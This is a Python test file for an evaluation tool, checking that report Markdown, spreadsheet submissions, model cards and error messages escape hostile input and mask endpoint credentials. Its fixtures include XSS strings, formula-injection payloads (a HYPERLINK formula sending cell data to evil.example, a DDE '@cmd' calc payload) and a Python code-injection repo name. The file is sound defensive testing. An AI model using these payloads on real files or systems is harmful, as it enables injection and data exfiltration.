"""Outputs are escaped: data values that look like spreadsheet formulas stay text in the submission
files, Markdown/HTML in benchmark values cannot split a table or render in results.md and the
model card, and an endpoint's credentials appear in no message and no file."""

import base64
import io
import json
import re

import openpyxl
import pandas as pd
from markdown_it import MarkdownIt
from PIL import Image

from gmaivl.app.cli import main
from gmaivl.core.markdown import md_code, md_text
from gmaivl.evaluation.loaders import load_vlmevalkit_tsv
from gmaivl.evaluation.report import markdown_report, neutralise_formula, write_reports, write_submission

HOSTILE = '<img src=x onerror="alert(1)"> a|b `c` [link](http://evil) &amp;\nnext line'
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1"]


def _html(md: str) -> str:
    """How GitHub / the Hub render it: CommonMark with tables and raw HTML allowed."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(md)


def _table_rows(html: str) -> list[int]:
    """Cells per row of every table in `html`."""
    return [len(re.findall(r"<t[dh][ >]", row)) for row in re.findall(r"<tr>(.*?)</tr>", html, re.S)]


def test_md_text_keeps_hostile_text_literal():
    html = _html(f"| a | b |\n| --- | --- |\n| {md_text(HOSTILE)} | {md_code('x|`y`')} |\n")
    assert "<img" not in html and "<a " not in html and "<code>c</code>" not in html
    assert _table_rows(html) == [2, 2]  # the `|` did not split the row, the newline did not end it
    assert "&lt;img src=x" in html and "a|b" in html and "[link](http://evil)" in html
    assert "&amp;amp;" in html  # an entity is shown as written, not decoded
    assert "<code>x|`y`</code>" in html


def _result(**over):
    result = {
        "benchmark": "bench <img src=x>",
        "model": "org/m|x",
        "n": 2,
        "counts": {"mcq": 2},
        "scored": True,
        "leaderboard_metric": "accuracy",
        "note": "note",
        "metrics": {"accuracy": 50.0, "macro_accuracy/modality": 50.0},
        "breakdowns": {"modality": {HOSTILE: {"accuracy": 100.0, "n": 1}, "CT": {"accuracy": 0.0, "n": 1}}},
        "unanswerable": {"count": 0, "indices": []},
        "failed_rows": {"count": 1, "indices": ["3"], "reasons": {"3": "row 4: image | <b>bad</b>"}},
        "protocol": {"system_prompt": "<script>alert(1)</script>", "batch_size": 8},
    }
    return {**result, **over}


def test_results_md_tables_hold_and_nothing_renders(tmp_path):
    md = markdown_report(_result())
    html = _html(md)
    assert not re.search(r"<(img|script|b)\b", html)
    assert all(n == cells for n, cells in zip(_table_rows(html), [2, 2, 2, 2, 2, 3, 3, 3, 3])), html
    assert "&lt;img src=x" in html and "a|b" in html and "&lt;script&gt;" in html
    files = write_reports(_result(), tmp_path, print_tables=False)
    assert files["markdown"].read_text() == md


def _png():
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(buf, format="PNG")
    return base64.b64encode(buf.getvalue()).decode()


def test_submission_cells_never_become_formulas(tmp_path):
    n = len(FORMULAS)
    pd.DataFrame(
        {
            "index": [str(i) for i in range(n)],
            "question": FORMULAS,
            "A": ["=1+1"] * n,
            "B": ["plain"] * n,
            "answer": ["A"] * n,
            "image": [_png()] * n,
            "category": ["-minus"] * n,
        }
    ).to_csv(tmp_path / "b.tsv", sep="\t", index=False)
    samples = load_vlmevalkit_tsv(tmp_path / "b.tsv")
    pred = tmp_path / "p.jsonl"
    lines = [json.dumps({"gmaivl_predictions": 1, "run": {}})]
    lines += [json.dumps({"index": str(i), "prediction": "@cmd|' /C calc'!A0"}) for i in range(n)]
    pred.write_text("\n".join(lines) + "\n")
    files = write_submission(samples, pred, tmp_path / "sub")

    wb = openpyxl.load_workbook(files["xlsx"])
    ws = wb.active
    header = [c.value for c in ws[1]]
    assert header == ["index", "question", "A", "B", "answer", "category", "prediction"]
    for row in ws.iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in row)  # no formula anywhere
        for c in row:
            if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r":
                assert c.data_type == "s" and c.quotePrefix  # Excel's own "this is text" flag
    back = pd.read_excel(files["xlsx"], dtype=str, keep_default_na=False)
    assert list(back["question"]) == FORMULAS  # values read back unchanged
    assert list(back["A"]) == ["=1+1"] * n and list(back["prediction"]) == ["@cmd|' /C calc'!A0"] * n
    # the TSV has no cell types: OWASP's rule, a leading quote
    tsv = pd.read_csv(files["tsv"], sep="\t", dtype=str, keep_default_na=False)
    assert list(tsv["A"]) == ["'=1+1"] * n and list(tsv["category"]) == ["'-minus"] * n
    assert list(tsv["B"]) == ["plain"] * n and list(tsv["index"]) == [str(i) for i in range(n)]
    assert list(tsv["prediction"]) == ["'@cmd|' /C calc'!A0"] * n


def test_owasp_rule_covers_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_formula(start + "1") == "'" + start + "1"
    assert neutralise_formula("1-2") == "1-2" and neutralise_formula(3) == 3


def test_model_card_tables_hold_and_nothing_renders(tiny_checkpoint, tmp_path):
    import ast

    from gmaivl.model_cards.model_card import build_model_card

    files = write_reports(_result(), tmp_path / "eval", print_tables=False)
    repo_id = 'org/x"); import os; os.system("id'
    card = build_model_card(
        tiny_checkpoint, [files["json"]], model_name="tiny <img src=x>|y", repo_id=repo_id
    )
    html = _html(card.text)
    assert not re.search(r"<(img|script|b)\b", html)
    assert "tiny &lt;img src=x&gt;|y" in html
    # every table keeps its header's number of cells
    for table in re.findall(r"<table>(.*?)</table>", html, re.S):
        rows = _table_rows(table)
        assert len(set(rows)) == 1, table
    assert "1 question(s) could not be asked" in card.text
    code = re.search(r"```python\n(.*?)```", card.text, re.S).group(1)
    calls = [
        n
        for n in ast.walk(ast.parse(code))
        if isinstance(n, ast.Call) and getattr(n.func, "attr", "") == "from_pretrained"
    ]
    assert [c.args[0].value for c in calls] == [repo_id, repo_id]  # a string, not code


class _EchoServer:
    """Answers 401 and echoes the request's Authorization header and path, as some proxies do."""

    def __enter__(self):
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_POST(self):
                self.rfile.read(int(self.headers["Content-Length"]))
                body = json.dumps(
                    {"error": f"bad credentials {self.headers.get('Authorization')} {self.path}"}
                )
                data = body.encode()
                self.send_response(401)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
        self.port = self.httpd.server_address[1]
        return self

    def __exit__(self, *exc):
        self.httpd.shutdown()
        self.httpd.server_close()


def test_endpoint_credentials_reach_no_message_and_no_file(bench_tsv, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("MY_KEY", "sk-secret-key-123")
    out = tmp_path / "out"
    with _EchoServer() as server:
        url = f"http://alice:pw-s3cret@127.0.0.1:{server.port}/v1"
        code = main(["eval", "--endpoint", url, "--served-model", "m", "--api-key-env", "MY_KEY",
                     "--benchmark", str(bench_tsv), "--limit", "2", "--max-retries", "0",
                     "--out", str(out), "--quiet"])  # fmt: skip
    err = capsys.readouterr().err
    assert code == 1 and "HTTP 401" in err  # the failure is reported, the echoed header masked ...
    assert re.search(r"bad credentials (Basic|Bearer) \*\*\*", err)
    texts = [err] + [p.read_text(errors="replace") for p in out.rglob("*") if p.is_file()]
    basic = base64.b64encode(b"alice:pw-s3cret").decode()
    for secret in ("pw-s3cret", "alice:pw", "sk-secret-key-123", basic):
        assert not any(secret in t for t in texts), secret  # ... without the credentials
    assert f"127.0.0.1:{server.port}/v1" in err
